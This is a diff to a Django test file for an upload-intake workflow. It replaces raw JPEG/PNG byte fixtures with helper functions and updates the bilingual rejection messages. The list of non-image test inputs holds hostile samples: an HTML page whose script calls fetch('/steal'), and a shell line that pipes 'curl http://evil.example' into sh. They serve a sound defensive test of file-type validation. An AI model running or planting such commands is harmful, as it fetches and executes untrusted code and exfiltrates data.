@@ -13,6 +13,7 @@ from django.utils import translation
 from intake.attachments import ATTACHMENT_MAX_FILES, IncomingFile, attachment_check
 from intake.errors import IntakeError
 from intake.models import Attachment
+from tests.fixtures.uploads.corpus import jpeg, png
 from tests.workflow.factories import official_make, reference_make, request_make
 from workflow.followup import (
     official_answer_record,
@@ -65,7 +66,7 @@ def test_it_writes_a_history_row_when_a_resumable_upload_completes(operator):
     from workflow.followup import upload_begin, upload_chunk
 
     request = request_make()
-    photo = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 2000 + b"\xff\xd9"
+    photo = jpeg((160, 120))
     upload = upload_begin(request=request, user=operator, filename="visit.jpg", size=len(photo))
     upload_chunk(upload_id=upload.pk, user=operator, offset=0, data=photo[:1000])
     assert not request.history.filter(action="attach").exists()
@@ -82,9 +83,9 @@ def _both(message) -> tuple[str, str]:
     return fa, en
 
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+PNG = png()
 NOT_PHOTOS = [
-    (b"<html><body><script>fetch('/steal')</script></body></html>", "برنامه یا اسکریپت", "program or script"),
+    (b"<html><body><script>fetch('/steal')</script></body></html>", "صفحهٔ وب یا اسکریپت", "web-page or script"),
     (b"#!/bin/sh\ncurl http://evil.example | sh\n", "برنامه یا اسکریپت", "program or script"),
     (b"just some words, not a picture at all", "تصویری نیست", "not an image"),
 ]
